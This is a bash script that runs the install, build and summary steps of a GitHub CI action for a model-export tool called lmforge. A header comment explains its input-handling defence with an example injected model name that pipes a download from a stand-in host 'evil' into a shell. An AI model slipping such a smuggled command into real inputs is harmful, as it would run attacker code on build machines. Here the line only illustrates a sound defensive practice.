#!/usr/bin/env bash
# The steps of the composite action ci/action.yml, one subcommand each, so that they run (and are tested) outside
# GitHub too. Inputs arrive only as environment variables, never spliced into the script: a model name such as
# `x"; curl evil | sh; "` stays one argument.
#
#   action.sh install   install lmforge from this checkout (the commit the caller pinned), CPU torch first
#   action.sh build     python -m export.build --model "$MODEL" --precision "$PRECISIONS" --out "$STORE" $BUILD_ARGS
#   action.sh summary   the report's engine table into $GITHUB_STEP_SUMMARY
#
# LMFORGE_DRY_RUN=1 prints the install commands instead of running them.
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
root=$(dirname "$here")

run() {
  if [[ "${LMFORGE_DRY_RUN:-}" == 1 ]]; then
    printf '%q ' "$@"
    echo
  else
    "$@"
  fi
}

torch_pin() {
  # The exact torch version lmforge pins, read from its own pyproject.toml.
  python - "$root/pyproject.toml" <<'PY'
import re, sys
print(re.search(r'"torch==([^"]+)"', open(sys.argv[1]).read())[1])
PY
}

install() {
  # PyPI's Linux torch wheel bundles CUDA (gigabytes); hosted runners have no GPU, so the CPU build of the
  # same pinned version comes from PyTorch's own index first, and pip then keeps it.
  run python -m pip install "torch==$(torch_pin)" --index-url "${TORCH_INDEX_URL:-https://download.pytorch.org/whl/cpu}"
  run python -m pip install "$root"
}

build() {
  local extra=()
  # Split on whitespace only (no globbing, no evaluation): flags such as `--bench-runs 1`.
  read -r -a extra <<< "${BUILD_ARGS:-}"
  status=0
  python -m export.build --model "${MODEL:?}" --precision "${PRECISIONS:?}" --out "${STORE:?}" "${extra[@]}" \
    || status=$?
  if [[ -n "${GITHUB_OUTPUT:-}" ]]; then
    echo "report=$STORE/report.md" >> "$GITHUB_OUTPUT"
  fi
  return "$status"
}

summary() {
  local report="${STORE:?}/report.md" out="${GITHUB_STEP_SUMMARY:?}"
  {
    printf '## lmforge engines: `%s`\n\n' "${MODEL:-?}"
    if [[ -f "$report" ]]; then
      # The report's engines section: the table (precision, size, accuracy against fp32, latency) and its notes.
      awk '/^## /{show = ($0 == "## Engines")} show && !/^## /' "$report"
    else
      echo "No report: the build failed before writing it (see lmforge-error.log among the uploaded files)."
    fi
  } >> "$out"
}

case "${1:-}" in
  install | build | summary) "$1" ;;
  *) echo "usage: $0 install|build|summary" >&2; exit 2 ;;
esac
